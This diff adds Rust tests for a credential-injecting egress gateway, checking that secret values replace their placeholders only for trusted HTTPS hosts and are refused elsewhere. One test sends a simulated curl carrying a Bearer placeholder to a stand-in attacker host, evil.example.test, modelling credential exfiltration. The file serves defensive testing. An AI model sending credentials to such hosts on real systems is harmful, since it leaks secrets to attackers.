@@ -1,0 +1,89 @@
+//! Does a value take its placeholder's place only where it is trusted?
+
+use outgate_tests::prelude::*;
+
+use super::scene::{Made, done, store};
+
+fn environment() -> serde_json::Value {
+    json!({
+        "env": {"KEY": {"credential": "key"}, "MODE": "test"},
+        "network": {"allowlist": [{"domain": "api.example.com"}, {"domain": "*"}]},
+    })
+}
+
+fn credential(value: &str, locations: &[&str]) -> serde_json::Value {
+    json!({"id": "key", "type": "environment_variable", "value": value,
+           "injection_location": locations, "placeholder_prefix": "ghp_"})
+}
+
+#[test]
+fn a_value_stands_for_its_placeholder_in_headers_basic_and_query() {
+    isolated(|| {
+        let world = world!();
+        let origin = world.https("api.example.com").respond(scripts::ok("yes")).start();
+        let gateway = world.gateway_builder().start();
+        let value = canary(40);
+        store(&gateway, &credential(&value, &["header", "query"]));
+        let made = Made::new(&gateway, &environment());
+        let placeholder = made.placeholder("KEY");
+        assert!(placeholder.starts_with("ghp_"));
+        assert_eq!(made.answer["env"]["MODE"], "test");
+        let answer = made
+            .curl(&format!("https://api.example.com/p?k={placeholder}"))
+            .header("x-key", &format!("token {placeholder}"))
+            .argument("--user")
+            .argument(format!("x-access-token:{placeholder}"))
+            .run();
+        assert_eq!(answer.status, 200, "{answer:?}");
+        let request = &origin.requests()[0];
+        assert_eq!(request.header("x-key"), Some(format!("token {value}").as_str()));
+        assert_eq!(request.head.start_line, format!("GET /p?k={value} HTTP/1.1"));
+        let basic = made.curl("https://api.example.com/").argument("--user");
+        let basic = basic.argument(format!("x-access-token:{value}")).run();
+        assert_eq!(basic.status, 200);
+        let requests = origin.requests();
+        assert_eq!(request.header("authorization"), requests[1].header("authorization"));
+        assert_secret_absent(gateway.output(), &value);
+        let line = &gateway.wait_audit(3)[1];
+        assert_eq!(line["credentials"], json!(["key"]), "{line}");
+        assert_eq!(line["injected"], json!(["x-key", "authorization"]), "{line}");
+    });
+}
+
+#[test]
+fn elsewhere_nothing_is_sent() {
+    isolated(|| {
+        let world = world!();
+        let api = world.https("api.example.com").respond(scripts::ok("yes")).start();
+        let plain = world.http("api.example.com").respond(scripts::ok("yes")).start();
+        let evil = world.https("evil.example.test").respond(scripts::ok("yes")).start();
+        let gateway = world.gateway_builder().start();
+        store(&gateway, &credential(&canary(40), &["header"]));
+        let made = Made::new(&gateway, &environment());
+        let other = Made::new(&gateway, &environment());
+        let placeholder = made.placeholder("KEY");
+        assert_ne!(placeholder, other.placeholder("KEY"));
+        let carries = |curl: Curl| curl.header("authorization", &format!("Bearer {placeholder}"));
+        let refusals = [
+            // `*` allows it, but names nothing.
+            carries(made.curl("https://evil.example.test/")).run(),
+            carries(other.curl("https://api.example.com/")).run(),
+            made.curl(&format!("https://api.example.com/?k={placeholder}")).run(),
+            made.curl(&format!("https://api.example.com/bot{placeholder}/send")).run(),
+            carries(made.curl("https://api.example.com/")).header("x", &placeholder[4..]).run(),
+        ];
+        for answer in refusals {
+            assert_eq!(answer.status, 403, "{answer:?}");
+            assert_eq!(answer.header("outgate-reason"), Some("placeholder_not_trusted"));
+            assert!(!answer.text().contains(&placeholder[4..]));
+        }
+        let clear = carries(made.curl("http://api.example.com/")).run();
+        assert_eq!(clear.header("outgate-reason"), Some("injection_needs_tls"), "{clear:?}");
+        done(&gateway, "DELETE", "credentials/key", &json!(null));
+        let gone = carries(made.curl("https://api.example.com/")).run();
+        assert_eq!(gone.header("outgate-reason"), Some("placeholder_not_trusted"), "{gone:?}");
+        for origin in [&api, &plain, &evil] {
+            assert_eq!(origin.requests().len(), 0);
+        }
+    });
+}
